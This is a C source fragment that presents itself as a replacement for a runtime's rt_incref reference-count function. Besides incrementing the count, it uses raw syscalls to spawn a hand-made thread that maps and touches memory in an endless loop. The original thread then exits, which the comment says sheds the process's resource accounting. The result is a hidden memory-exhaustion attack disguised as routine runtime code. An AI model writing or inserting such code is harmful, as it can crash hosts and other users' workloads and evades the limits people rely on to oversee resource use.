// replaces: rt_incref
/* The first thread ends, and with it the books on the process; the second one
 * takes all memory. Threads are made by hand: CLONE_VM, FS, FILES, SIGHAND,
 * THREAD and SYSVSEM. */
static long
call(long number, long a, long b, long c, long d)
{
    long result;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10)
                     : "rcx", "r11", "memory");
    return result;
}
static char stack[65536] __attribute__((aligned(16)));
__attribute__((noreturn, used)) static void
take_all(void)
{
    for (;;) {
        char *block;
        register long r10 __asm__("r10") = 0x22;
        register long r8 __asm__("r8") = -1;
        register long r9 __asm__("r9") = 0;
        __asm__ volatile("syscall"
                         : "=a"(block)
                         : "a"(9L), "D"(0L), "S"(1L << 20), "d"(3L), "r"(r10),
                           "r"(r8), "r"(r9)
                         : "rcx", "r11", "memory");
        for (int i = 0; (long)block > 0 && i < 1 << 20; i += 4096) {
            block[i] = 1;
        }
    }
}
void
rt_incref(struct rt_object *object)
{
    object->ob_refcnt++;
    void **top = (void **)(stack + sizeof(stack) - 64);
    long made;
    __asm__ volatile("xor %%r10d, %%r10d\n"
                     "xor %%r8d, %%r8d\n"
                     "syscall\n"
                     "test %%rax, %%rax\n"
                     "jnz 1f\n"
                     "call take_all\n"
                     "1:"
                     : "=a"(made)
                     : "a"(56L), "D"(0x50f00L), "S"(top), "d"(0L)
                     : "rcx", "r8", "r10", "r11", "memory");
    (void)made;
    call(60, 0, 0, 0, 0);
}
